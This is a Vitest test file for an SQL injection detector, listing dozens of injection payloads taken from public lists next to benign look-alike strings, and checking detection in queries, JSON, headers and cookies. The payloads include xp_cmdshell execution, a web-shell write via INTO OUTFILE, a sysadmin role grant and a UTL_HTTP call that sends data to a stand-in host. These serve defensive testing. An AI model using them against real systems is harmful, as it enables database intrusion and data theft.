import { describe, expect, it } from 'vitest';
import { detects, inHeader, inJson, inQuery } from '../testing.js';
import { tokenize } from './sqli.js';

const ATTACKS = [
  "' or 1=1--",
  "1' OR '1'='1",
  "admin'--",
  "admin')--",
  '1 union select null,null--',
  "-1' UNION ALL SELECT username, password FROM users--",
  '1;drop table users',
  "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
  '1 and sleep(5)',
  "1' AND EXTRACTVALUE(1, CONCAT(0x7e, version()))--",
  "1' ORDER BY 3--+",
  '1/*!50000union*/select 1',
  '1 UN/**/ION SEL/**/ECT 1',
  '1 AND (SELECT COUNT(*) FROM users) > 0',
  "' OR EXISTS(SELECT * FROM users WHERE name='admin')--",
  '(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)',
  '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))',
  "1' WAITFOR DELAY '0:0:5'--",
  "1 INTO OUTFILE '/var/www/html/shell.php'",
  "1'='1",
  '1 oR TruE',
  "'||UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))||'",
  "admin'||'",
  'ORDER BY 1--',
  '-1#\nunion (select id from users limit 1,1)',
  '(select login/2 from users limit 1,1)',
  "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0 '/**/AND/**/1=UTL_HTTP.request('http://x/'||(SELECT user FROM dual))--",
  'SELECT * FROM information_schema.tables',
  // From public payload lists (PayloadsAllTheThings' SQL Injection/Intruder), once missed:
  "'-'",
  "'*'",
  "'&'",
  'ORDER BY 5',
  'HAVING 1=1',
  'HAVING 1=1--',
  'pg_SLEEP(5)',
  'or pg_SLEEP(5)',
  'RANDOMBLOB(500000000/2)',
  "AND 2947=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
  "exec master..xp_cmdshell 'ipconfig+/all'",
  "' exec sp_addsrvrolemember 'name' , 'sysadmin' --",
  "' insert into users(login, password, level) values('x', 'y', 1) --",
  'select @@version',
  'select version();',
  "select current_setting('data_directory');",
  'select * from sysusers',
  // From fuzzdb and payloadbox lists, once missed:
  'or a=a',
  ') or (a=a',
  'hi or 1=1 --',
  'or x=x--',
  "x' AND members.email IS NULL; --",
  "' or user like '%",
  'group by userid having 1=1--',
  'declare @s varchar(200) select @s = 0x73656c65637420404076657273696f6e exec(@s)',
  'exec(@q)',
  'uni/**/on sel/**/ect',
  'hi or a=a',
  "\\'; desc users; --",
  // From HttpParamsDataset's validation split (sqlmap's payloads), once missed:
  "-9622'))) order by 1#",
  "-1621' in boolean mode) order by 1--",
  '-7277))) order by 1#',
  '1 where 3502=3502 order by 1--',
  '1;if(5127=2829) select 5127 else drop function okos--',
  '1";begin user_lock.sleep(5); end',
  '1);iif(5462=8866,1,1/0)',
  'iif(3204=8489,3204,1/0)',
  'make_set(5679=9769,9769)',
  '1,(case when 2872=2872 then 1 else null end)',
  "1';call regexp_substring(repeat(right(char(2385),0),500000000),null)--",
  // From the OWASP CRS regression tests (942xxx), once missed:
  ' exec xp_cmdshell',
  "admin@juice-sh.op';",
  'admin@juice-sh.op";',
  "root@example.com'/* comment */;",
];

const BENIGN = [
  "Don't select from the list or pick 1",
  "O'Reilly and sons",
  "It's 5 o'clock; time to go",
  'Please update your profile; delete old posts',
  'the union select committee met on Monday',
  'Does it contain any? Select all that apply: red, green, blue.',
  '> Execute the plan by Monday and report back.',
  "I said 'yes' or 'no' = maybe",
  '1 or 2',
  'Rock & roll -- the best',
  'Union Jack Mug',
  "the 'or' operator",
  "Note: '--' marks a comment",
  'My SQL query: SELECT name FROM users WHERE id = 1',
  "what does ' or 1=1 mean",
  "FOO BAR'# BLAH",
  '7" #2 CIRCULAR NEEDLE',
  "O'connors UNION selected a few friends from a",
  '1 I like having true friends',
  'Please order by 5 pm',
  'order by price',
  'having 2 kids is fun',
  "I can't insert into the form, it says error",
  'SELECT hex(randomblob(16)) AS id',
  'Exec sleep study results',
  'select the version you want',
  'What version (2.1 or 3.0)?',
  'cats or dogs = dogs',
  'either a or b',
  'group by city having more than 5 members',
  'Please exec @team about the meeting',
  'a/* note */b',
  "what's your user like?",
  "It's done; thanks -- Bob",
  'Quality or quantity = quantity matters',
  'Please ship my order by 3 -- thanks',
  'Wrap it (gift) and order by 2 pm',
  'if (a = 1) select the first row',
  'elt(x=y, 1)',
  "repeat('-', 80)",
  'case when x = 1 then y end',
  'having pain!',
  'Shirt (blue) order by 2 -- asap',
  "say 'hi';",
  "It's late; go home",
  'console.log("a");',
  'where am I?',
  'Please execute the master plan',
];

describe('sqli detector', () => {
  it.each(ATTACKS)('detects %s', (p) => {
    expect(detects(inQuery(p), 'sqli')).toBe(true);
  });
  it.each(BENIGN)('passes %s', (p) => {
    expect(inQuery(p).attack).toBe(false);
  });
  it('sees through URL (double) encoding, + and HTML entities', () => {
    const r = inspectRaw('id=1%2527%2520or%25201%253D1--');
    expect(detects(r, 'sqli')).toBe(true);
    expect(detects(inspectRaw("q=1'+or+'1'%3D'1"), 'sqli')).toBe(true);
    expect(detects(inQuery('1&#39; or &#x27;a&#39;=&#39;a'), 'sqli')).toBe(true);
  });
  it('reads JSON keys with blanks or punctuation as values', () => {
    expect(detects(inJson({ '2759399466.1534 -6863 union all select 1,1,1,CONCAT': 'foo' }), 'sqli')).toBe(true);
    expect(inJson({ 'Select All': true, 'Order by date': 'asc', 'Customer name': 'Ann' }).attack).toBe(false);
  });
  it('inspects JSON bodies, headers and cookies', () => {
    expect(detects(inJson({ user: { name: "admin' or '1'='1" } }), 'sqli')).toBe(true);
    expect(detects(inHeader('x-forwarded-for', "1' and sleep(5)#"), 'sqli')).toBe(true);
    expect(detects(inHeader('cookie', `sid=abc; cart=${encodeURIComponent("1' union select 1--")}`), 'sqli')).toBe(
      true,
    );
  });
  it('tokenizes in quote context and refuses when the quote never closes', () => {
    expect(tokenize('abc', 39)).toBeNull();
    const t = tokenize("x' or 1=1", 39);
    expect(t?.map((k) => k.t).join('')).toBe('s&non');
  });
  it('reports the rule and a location', () => {
    const r = inQuery("' or 1=1--", 'id');
    expect(r.findings[0]).toMatchObject({ class: 'sqli', location: 'query.id' });
    expect(r.findings[0]?.rule).toMatch(/^sqli\./);
  });
});

import { inspectRequest } from '../engine.js';

function inspectRaw(query: string) {
  return inspectRequest({ method: 'GET', path: '/x', query, headers: {} });
}
